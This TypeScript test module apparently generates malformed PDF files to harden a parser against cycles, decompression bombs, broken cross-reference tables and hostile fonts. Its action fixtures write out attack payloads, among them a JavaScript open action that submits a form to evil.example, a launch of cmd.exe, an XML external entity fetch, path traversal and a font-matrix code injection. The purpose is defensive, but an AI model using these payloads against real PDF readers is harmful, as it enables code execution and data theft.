import { deflateSync } from "node:zlib";
import { type Canaries, type CraftedFile, craftEach, craftTruncated } from "./test-crafted-file.ts";
import { assemblePdf, lockedPdfFile, pdfFile } from "./test-files.ts";

const fileName = "年鉴.pdf";
const mebibyte = 1024 ** 2;
const words = "BT /F1 12 Tf 72 720 Td (GDP 1106.8) Tj ET";

interface Parts {
  readonly catalog?: string;
  readonly pages?: string;
  readonly page?: string;
  readonly font?: string;
  /** A whole stream object, or what it holds. */
  readonly content?: string;
  readonly more?: readonly string[];
  readonly trailer?: string;
}

/** One page of one line; object 1 the catalog, 2 the pages, 3 the font, 4 the page, 5 its content. */
function onePage(parts: Parts = {}): Uint8Array {
  const content = parts.content ?? words;
  return assemblePdf(
    [
      `<</Type/Catalog/Pages 2 0 R${parts.catalog ?? ""}>>`,
      parts.pages ?? "<</Type/Pages/Kids[4 0 R]/Count 1>>",
      parts.font ?? "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R${parts.page ?? "/Resources<</Font<</F1 3 0 R>>>>"}>>`,
      content.startsWith("<<") ? content : streamOf(content),
      ...(parts.more ?? []),
    ],
    parts.trailer ?? "",
  );
}

const streamOf = (content: string, entries = "") =>
  `<</Length ${content.length}${entries}>>\nstream\n${content}\nendstream`;

function deflated(content: Uint8Array, times = 1, entries = ""): string {
  let packed: Uint8Array = content;
  for (let time = 0; time < times; time += 1) packed = deflateSync(packed, { level: 9 });
  const filters = "/FlateDecode".repeat(times);
  return streamOf(Buffer.from(packed).toString("latin1"), `/Filter[${filters}]${entries}`);
}

/** Trees, streams, tables, fonts and actions of PDF files. */
export function craftedPdfFiles(canaries: Canaries): CraftedFile[] {
  const what = (name: string) => ({ what: `PDF, ${name}`, fileName });
  return [
    ...craftTruncated(() => pdfFile([["GDP 1106.8"], ["up 12.9"]]), {
      ...what("truncated"),
      cuts: 14,
    }),
    ...craftEach(trees, onePage, what("page tree")),
    ...craftEach(references, onePage, what("reference")),
    ...craftEach(contents, (content) => onePage({ content }), what("content")),
    ...craftEach(bombs, (make) => make(), what("bomb")),
    ...craftEach(tables, (change) => retabled(change), what("table")),
    ...craftEach(fonts(canaries), onePage, what("font")),
    ...craftEach(actions(canaries), onePage, what("action")),
    ...craftEach(locks, (make) => make(), what("lock")),
    ...craftEach(shells, (make) => make(), what("file")),
  ];
}

const trees: Readonly<Record<string, Parts>> = {
  "of itself": { pages: "<</Type/Pages/Kids[2 0 R]/Count 1>>" },
  "in a ring": {
    pages: "<</Type/Pages/Kids[6 0 R]/Count 1>>",
    more: ["<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"],
  },
  "count of a billion": { pages: "<</Type/Pages/Kids[4 0 R]/Count 1000000000>>" },
  "count below zero": { pages: "<</Type/Pages/Kids[4 0 R]/Count -5>>" },
  "count of words": { pages: "<</Type/Pages/Kids[4 0 R]/Count (many)>>" },
  "no kids": { pages: "<</Type/Pages/Kids 4 0 R/Count 1>>" },
  "kids that are not there": { pages: "<</Type/Pages/Kids[99 0 R 98 0 R]/Count 2>>" },
  "one page 500 times": { pages: `<</Type/Pages/Kids[${"4 0 R ".repeat(500)}]/Count 500>>` },
  "2,000 levels": {
    pages: "<</Type/Pages/Kids[6 0 R]/Count 1>>",
    more: Array.from({ length: 2000 }, (_, at) => `<</Type/Pages/Kids[${at + 7} 0 R]/Count 1>>`),
  },
  "no pages at all": { catalog: "/Pages null", pages: "null" },
  "boxes without end": { page: "/MediaBox[-1e38 1e38 1e39 (x)]/Rotate 1e9/UserUnit -1" },
};

const references: Readonly<Record<string, Parts>> = {
  "length of itself": { content: "<</Length 5 0 R>>\nstream\nx\nendstream" },
  "length of a billion": { content: "<</Length 1000000000>>\nstream\nx\nendstream" },
  "length below zero": { content: "<</Length -1>>\nstream\nx\nendstream" },
  "resources of itself": { page: "/Resources 4 0 R" },
  "object of itself": { more: ["6 0 R"], page: "/Resources 6 0 R" },
  "objects in a ring": { more: ["7 0 R", "6 0 R"], page: "/Resources 6 0 R" },
  "content a list of itself": { page: "/Contents 6 0 R", more: ["[6 0 R 6 0 R 6 0 R]"] },
  "a form in itself": form("/X 6 0 R"),
  "two forms in each other": {
    ...form("/X 7 0 R"),
    more: [formOf("/X 7 0 R"), formOf("/X 6 0 R")],
  },
  "forms that double 24 times": {
    ...form("/X 6 0 R"),
    more: Array.from({ length: 24 }, (_, at) => formOf(`/X ${at + 7} 0 R`, "/X Do /X Do")),
  },
  "a pattern of itself": {
    page: "/Resources<</Pattern<</P 6 0 R>>>>",
    more: ["<</PatternType 1/Resources<</Pattern<</P 6 0 R>>>>>>"],
  },
  "outlines in a ring": { catalog: "/Outlines 6 0 R", more: ["<</First 6 0 R/Next 6 0 R>>"] },
  "names in a ring": { catalog: "/Names<</Dests 6 0 R>>", more: ["<</Kids[6 0 R]>>"] },
  "structure in a ring": {
    catalog: "/StructTreeRoot 6 0 R",
    more: ["<</Type/StructTreeRoot/K 6 0 R/ParentTree 6 0 R>>"],
  },
  "a dictionary with __proto__": { catalog: "/__proto__<</x 1>>/constructor 1" },
};

function formOf(xObjects: string, content = "/X Do"): string {
  return streamOf(
    content,
    `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<<${xObjects}>>>>`,
  );
}
function form(xObjects: string): Parts {
  return {
    page: `/Resources<</Font<</F1 3 0 R>>/XObject<<${xObjects.replace(/\d+/, "6")}>>>>`,
    content: `${words} /X Do`,
    more: [formOf(xObjects)],
  };
}

const contents: Readonly<Record<string, string>> = {
  "a million saves": "q ".repeat(1_000_000) + words,
  "a million restores": "Q ".repeat(1_000_000) + words,
  "text in text": "BT ".repeat(100_000) + words,
  "an endless string": `BT /F1 12 Tf (${"(".repeat(100_000)}`,
  "a list 200,000 deep": `${"[".repeat(200_000)} TJ`,
  "a dictionary 100,000 deep": `${"<</a".repeat(100_000)} BDC`,
  "places beyond numbers":
    "BT /F1 1e308 Tf 1e308 -1e308 Td (x) Tj 1e39 0 0 1e39 NaN 0 Tm (y) Tj ET",
  "a font of size 0": "BT /F1 0 Tf 72 720 Td (GDP) Tj 0 0 Td (1106.8) Tj ET",
  "100,000 words in one place": `BT /F1 12 Tf 72 720 Td ${"(a) Tj ".repeat(100_000)} ET`,
  "50,000 lines": `BT /F1 12 Tf 72 720 Td 14 TL ${"(a) Tj T* ".repeat(50_000)} ET`,
  "a picture without end": `${words} BI /W 1000000 /H 1000000 /BPC 8 /CS /RGB ID x`,
  "operators nobody knows": "a b c d e f g h ".repeat(50_000) + words,
  "numbers without end": `${"9".repeat(1_000_000)} ${words}`,
  "markup in the words": "BT /F1 12 Tf 72 720 Td (<script>alert\\(1\\)</script>) Tj ET",
  "control characters in the words": "BT /F1 12 Tf 72 720 Td (a\\000\\033[31m\\377) Tj ET",
};

const bombs: Readonly<Record<string, () => Uint8Array>> = {
  "120 MB of spaces": () => onePage({ content: deflated(new Uint8Array(120 * mebibyte).fill(32)) }),
  "packed twice, 200 MB": () =>
    onePage({ content: deflated(new Uint8Array(200 * mebibyte).fill(32), 2) }),
  "2 MB of words": () =>
    onePage({ content: deflated(Buffer.from(`BT /F1 12 Tf ${"(a) Tj ".repeat(300_000)}ET`)) }),
  "predictor of a billion columns": () =>
    onePage({
      content: deflated(
        Buffer.from(words),
        1,
        "/DecodeParms<</Predictor 12/Columns 1000000000/Colors 32>>",
      ),
    }),
  "a hundred filters": () =>
    onePage({ content: streamOf("00>", `/Filter[${"/ASCIIHexDecode".repeat(100)}]`) }),
  "run lengths": () =>
    onePage({ content: streamOf("\x81 ".repeat(500_000), "/Filter/RunLengthDecode") }),
  "LZW rubbish": () =>
    onePage({ content: streamOf("\x80\x0b\x60\x50\x22".repeat(1000), "/Filter/LZWDecode") }),
  "a broken Flate stream": () =>
    onePage({ content: streamOf("\x78\x9cxxxxxxxxx", "/Filter/FlateDecode") }),
  "pictures of every codec": () =>
    onePage({
      page: "/Resources<</Font<</F1 3 0 R>>/XObject<</A 6 0 R/B 7 0 R/C 8 0 R/D 9 0 R>>>>",
      content: `${words} /A Do /B Do /C Do /D Do`,
      more: ["DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode"].map((filter) =>
        streamOf(
          "\xff\xd8\xff\x00rubbish",
          `/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/${filter}`,
        ),
      ),
    }),
  "1,000 pages": () => pdfFile(Array.from({ length: 1000 }, (_, page) => [`page ${page}`])),
};

interface Retabled {
  readonly from: string | RegExp;
  readonly to: string;
}
function retabled({ from, to }: Retabled): Uint8Array {
  return Buffer.from(Buffer.from(onePage()).toString("latin1").replace(from, to), "latin1");
}

const tables: Readonly<Record<string, Retabled>> = {
  "start of minus one": { from: /startxref\n\d+/, to: "startxref\n-1" },
  "start beyond the end": { from: /startxref\n\d+/, to: "startxref\n99999999999999999999" },
  "start at the start": { from: /startxref\n\d+/, to: "startxref\n0" },
  none: { from: /xref[\s\S]*trailer/, to: "trailer" },
  "no trailer": { from: /trailer[\s\S]*/, to: "" },
  "the table before is this one": { from: "/Root 1 0 R", to: "/Root 1 0 R/Prev 560" },
  "a stream that is none": { from: "/Root 1 0 R", to: "/Root 1 0 R/XRefStm 9" },
  "a billion entries": { from: /xref\n0 \d+/, to: "xref\n0 1000000000" },
  "size of a billion": { from: /\/Size \d+/, to: "/Size 1000000000" },
  "root of itself": { from: "/Root 1 0 R", to: "/Root 3 0 R" },
  "no root": { from: "/Root 1 0 R", to: "" },
  "wrong offsets": { from: /0000000\d\d\d 00000 n/g, to: "0000000007 00000 n" },
  generations: { from: / 00000 n/g, to: " 65535 n" },
  "everything free": { from: / 00000 n/g, to: " 00000 f" },
};

function fonts({ path }: Canaries): Readonly<Record<string, Parts>> {
  const composite = (encoding: string, descendant = "/W[0 60000 500]/DW 1e9"): Parts => ({
    font: `<</Type/Font/Subtype/Type0/BaseFont/Song/Encoding ${encoding}/DescendantFonts[6 0 R]>>`,
    more: [
      `<</Type/Font/Subtype/CIDFontType2/BaseFont/Song/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 5>>${descendant}>>`,
    ],
  });
  const mapped = (map: string): Parts => ({
    font: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>",
    more: [streamOf(map)],
  });
  const embedded = (entries: string, data: string): Parts => ({
    font: "<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>",
    more: [`<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>`, streamOf(data, entries)],
  });
  return {
    "a matrix that is a program": {
      font: "<</Type/Font/Subtype/Type1/BaseFont/X/FontMatrix[1 2 3 4 5 (1\\); globalThis.canary = 1;//)]>>",
    },
    "a map by a path": composite(`/..#2F..#2F..${path.replaceAll("/", "#2F")}`),
    "a map that nobody has": composite("/GBK-NoSuchMap-H"),
    "a map that ships with the program": composite("/GBK-EUC-H"),
    "widths of a billion characters": composite("/Identity-H", "/W[0 1000000000 500]"),
    "a map over everything": mapped("1 beginbfrange <00000000> <ffffffff> <0000> endbfrange"),
    "a map in itself": mapped("/X usecmap 6 0 R usecmap"),
    "a map without end": mapped("100 beginbfchar ".repeat(10_000)),
    "a file of lying size": embedded("/Length1 1000000000", "\0\x01\0\0\0\xff"),
    "a file of rubbish": embedded("/Length1 64", "OTTO\xff\xff\xff\xff".repeat(8)),
    "tables of lying size": embedded(
      "/Length1 64",
      `\0\x01\0\0\0\x01\0\0\0\0\0\0glyf\0\0\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff${"x".repeat(36)}`,
    ),
    "differences of 200,000 names": {
      font: `<</Type/Font/Subtype/Type1/BaseFont/X/Encoding<</Differences[0 ${"/a".repeat(200_000)}]>>>>`,
    },
    "glyphs drawn with themselves": {
      font: "<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar 255/CharProcs<</G 5 0 R>>/Encoding<</Differences[71/G]>>/Resources<</Font<</F1 3 0 R>>>>>>",
    },
    "descendants of itself": {
      font: "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[3 0 R]>>",
    },
  };
}

function actions({ address, path }: Canaries): Readonly<Record<string, Parts>> {
  const script = "app.alert(1); this.submitForm('http://evil.example')";
  return {
    "a script at opening": {
      catalog: `/OpenAction<</S/JavaScript/JS(${script.replace(/[()]/g, "\\$&")})>>`,
    },
    "a program at opening": {
      catalog: "/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/k calc)>>>>",
    },
    "an address at opening": { catalog: `/OpenAction<</S/URI/URI(${address}uri)>>` },
    "another file at opening": {
      catalog: `/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1\\\\share)/D[0/Fit]>>`,
    },
    "a form sent at opening": {
      catalog: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${address}form)>>>>`,
    },
    "data taken in": { catalog: `/OpenAction<</S/ImportData/F(${path})>>` },
    "scripts by name": {
      catalog: "/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert)>>]>>>>",
    },
    "scripts of pages": {
      page: "/Resources<</Font<</F1 3 0 R>>>>/AA<</O<</S/JavaScript/JS(app.alert)>>>>",
    },
    "a link to a script": {
      page: "/Resources<</Font<</F1 3 0 R>>>>/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert)>>>>]",
    },
    "an embedded program": {
      catalog: "/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 5 0 R>>>>]>>>>",
    },
    "a form of XML": {
      catalog: "/AcroForm<</XFA 6 0 R/Fields[]>>",
      more: [streamOf(`<!DOCTYPE x [<!ENTITY a SYSTEM "${address}xfa">]><xdp>&a;</xdp>`)],
    },
    "content from an address": {
      content: `<</Length 0/F<</FS/URL/F(${address}content)>>/FFilter/FlateDecode>>\nstream\n\nendstream`,
    },
    "content from a file": { content: `<</Length 0/F(${path})>>\nstream\n\nendstream` },
    "data about it from an address": {
      catalog: "/Metadata 6 0 R",
      more: [
        streamOf(`<!DOCTYPE x SYSTEM "${address}xmp"><x:xmpmeta/>`, "/Type/Metadata/Subtype/XML"),
      ],
    },
    "a base of addresses": { catalog: `/URI<</Base(${address})>>` },
  };
}

const lockOf = (entries: string) => () =>
  onePage({ trailer: "/Encrypt 6 0 R/ID[<00><00>]", more: [`<</Filter/Standard${entries}>>`] });
const locks: Readonly<Record<string, () => Uint8Array>> = {
  "with a password": () => lockedPdfFile(),
  "of itself": () => onePage({ trailer: "/Encrypt 6 0 R", more: ["6 0 R"] }),
  "of a kind nobody knows": lockOf("/V 99/R 99"),
  "with nothing in it": lockOf(""),
  "with a short key": lockOf("/V 5/R 6/O<00>/U<00>/OE<00>/UE<00>/Perms<00>/P -1"),
  "by certificates": () =>
    onePage({ trailer: "/Encrypt 6 0 R", more: ["<</Filter/Adobe.PubSec/V 4>>"] }),
};

const shells: Readonly<Record<string, () => Uint8Array>> = {
  "a header alone": () => Buffer.from("%PDF-1.7"),
  "a header far down": () => Buffer.concat([Buffer.alloc(1000, "x"), onePage()]),
  "a header too far down": () => Buffer.concat([Buffer.alloc(5000, "x"), onePage()]),
  "two files": () => Buffer.concat([onePage(), onePage()]),
  "HTML around it": () =>
    Buffer.from(
      `<html><script>alert(1)</script>${Buffer.from(onePage()).toString("latin1")}`,
      "latin1",
    ),
  "brackets without end": () => Buffer.from(`%PDF-1.7\n1 0 obj\n${"[".repeat(1_000_000)}`),
  "dictionaries without end": () => Buffer.from(`%PDF-1.7\n1 0 obj\n${"<</a ".repeat(500_000)}`),
  "a million objects": () =>
    Buffer.from(
      `%PDF-1.7\n${Array.from({ length: 300_000 }, (_, at) => `${at} 0 obj null endobj\n`).join("")}trailer<</Root 1 0 R>>`,
    ),
  zeros: () => Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(10 * mebibyte)]),
};
